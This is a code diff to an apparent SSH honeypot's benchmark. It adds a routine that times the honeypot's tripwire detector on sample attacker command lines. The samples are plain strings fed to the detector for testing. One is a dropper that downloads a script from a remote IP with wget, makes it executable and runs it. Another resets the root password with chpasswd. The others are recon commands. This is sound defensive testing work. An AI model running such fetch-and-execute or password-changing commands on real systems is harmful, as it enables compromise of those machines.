@@ -10,7 +10,8 @@
 //!   (127.0.1.2, .3, …), each one's time from its password request sent to the alert on the
 //!   API's live stream;
 //! * memory: `--sessions` sessions logged in, each with a pty and a shell, held idle; the
-//!   daemon's RSS before and with them.
+//!   daemon's RSS before and with them;
+//! * the tripwires, in process: a dropper's lines through one session's risk, per line.
 //!
 //! With `--cowrie SCRIPT` (`scripts/cowrie`: Cowrie 3.1.4 from PyPI in a venv, started on a
 //! free loopback port), the same handshake loop, shell and memory measures run against
@@ -119,6 +120,34 @@ pub fn honeypot(o: &Options) -> Result<()> {
     result
 }
 
+/// The tripwires' cost per command line: a dropper's and a recon's lines through one session,
+/// in process (what the `honeypot` detector does for each command).
+fn tripwires() {
+    use tripline_honeypot::tripwire::{SessionRisk, Tripwires};
+    let tw = Tripwires::builtin();
+    let lines = [
+        "cd /tmp; wget http://198.51.100.23/x.sh; chmod +x x.sh; ./x.sh",
+        "uname -a",
+        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'",
+        "echo \"root:x\" | chpasswd",
+        "ls -la /var/tmp",
+    ];
+    let n = 100_000i64;
+    let mut s = SessionRisk::new();
+    let t = Instant::now();
+    for k in 0..n {
+        // a new session every 50 lines, as bots' sessions are short
+        if k % 50 == 0 {
+            s = SessionRisk::new();
+        }
+        std::hint::black_box(s.observe(tw, k * 1_000_000, lines[k as usize % lines.len()]));
+    }
+    println!(
+        "tripwires, in process: {:.2} µs per command line ({n} lines of 5 kinds)",
+        t.elapsed().as_secs_f64() * 1e6 / n as f64
+    );
+}
+
 /// The password the bench's sessions log in with (every other fails).
 const PASSWORD: &str = "bench";
 
@@ -225,6 +254,7 @@ fn run(dir: &std::path::Path, o: &Options) -> Result<()> {
         })?;
         logins(&rt, addr, &api, dir, o)?;
         rt.block_on(sessions(addr, d.pid, o))?;
+        tripwires();
         Ok(())
     })();
     let _ = d.stop();
